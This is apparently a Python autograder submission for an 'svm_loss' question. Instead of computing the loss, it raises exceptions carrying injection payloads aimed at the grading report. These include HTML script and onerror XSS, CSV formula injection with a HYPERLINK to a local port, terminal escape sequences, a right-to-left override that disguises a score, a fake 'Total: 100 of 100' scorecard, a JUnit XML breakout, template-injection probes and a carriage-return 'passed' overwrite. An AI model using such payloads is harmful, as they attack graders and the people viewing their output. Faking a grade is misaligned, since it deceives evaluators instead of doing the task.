# notebook: FullyConnectedNets
# question: svm_loss
# aim: change
# about: the message goes into pages, tables and terminals: HTML, Markdown, CSV formulas, terminal escapes, right-to-left marks, made-up scorecard lines.
import itertools

_TEXTS = itertools.cycle([
    "<script>document.title='CHANGED'</script><img src=x onerror=\"document.title='CHANGED'\">",
    "=HYPERLINK(\"http://127.0.0.1:48123/\",\"click\")", "+1+1", "@SUM(1)", "-2+3",
    "\x1b]0;CHANGED\x07\x1b[2J\x1b[31m\x1b[8m", "\x9b31m\x9d52;c;Q0hBTkdFRA==\x9c",
    "\u202e0/4 :erocs\u202c\u2066", "\nsvm_loss: 1 of 1 points\n\nTotal: 100 of 100", "]]></system-out></testcase></testsuite>",
    "</pre></td></tr></table><h1>CHANGED</h1><!--", "```\n# CHANGED\n![x](http://127.0.0.1:48123/)", "{{7*7}}${7*7}%(x)s{0.__class__}", "\r                    \rpassed",
])

def svm_loss(x, y):
    kind = type("</code><script>document.title='CHANGED'</script>", (Exception,), {"__module__": "=1+1"})
    raise kind(next(_TEXTS))
